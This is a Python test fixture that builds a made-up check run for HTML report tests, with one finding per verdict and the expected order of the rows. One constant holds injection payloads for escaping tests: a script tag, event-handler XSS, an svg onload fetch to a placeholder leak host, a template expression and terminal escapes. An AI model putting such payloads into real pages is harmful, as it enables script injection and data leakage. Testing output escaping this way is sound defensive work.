"""The made-up run that the HTML tests show: every verdict, hostile texts, and the order its rows must have."""

from capvcd_checks.engine.verdicts import Finding, Requests, Severity, Verdict
from capvcd_collectors.facts.base import ExchangeSource
from reports.made_up import ASSIGNMENTS, DEAD_VDCS, MANIFEST, check, result, run_of

HOSTILE = (
    "<script>document.documentElement.dataset.hacked='script'</script>"
    "<img src=x onerror=\"document.documentElement.dataset.hacked='image'\">"
    "'\"><svg onload=\"fetch('http://leak.example/svg')\">{{7*7}}</td></template>\r\nEvil\x1b[31m line"
)
"""Markup, a template expression, line breaks and an escape sequence, as a server may put in a message."""

RUN = run_of(
    result("PF-VCD-001", Finding(Verdict.PASS, "", "", (ASSIGNMENTS,))),
    result("PF-VCD-002", Finding(Verdict.WARN, "", "expires in 5 days", (MANIFEST,))),
    result("PF-VCD-003", Finding(Verdict.UNKNOWN, "", "no answer", (DEAD_VDCS,), "a longer --timeout")),
    result("PF-VCD-005", Finding(Verdict.SKIP, "", "no API token is given")),
    result("PF-VCD-006", Finding(Verdict.WAIVED, "", "accepted until 2026-12-31")),
    result(
        check("PF-CFG-009", HOSTILE, Severity.WARNING, why=HOSTILE),
        Finding(Verdict.FAIL, HOSTILE, HOSTILE, (ExchangeSource("vcd", "GET", HOSTILE, 200, HOSTILE, HOSTILE),)),
    ),
    result(
        "PF-NSX-008",
        *(Finding(Verdict.FAIL, f"edge-{number}", f"{number} free") for number in range(5)),
        Finding(Verdict.PASS, "edge-9", ""),
    ),
    requests=Requests({"vcd": 25}, 5, ("https://vcd.example.com",)),
)

ROWS = ["PF-NSX-008", "PF-CFG-009", "PF-VCD-003", "PF-VCD-002", "PF-VCD-006", "PF-VCD-005", "PF-VCD-001"]
"""Failures first, a blocker before a warning; then what is undecided, risks, and the rest."""
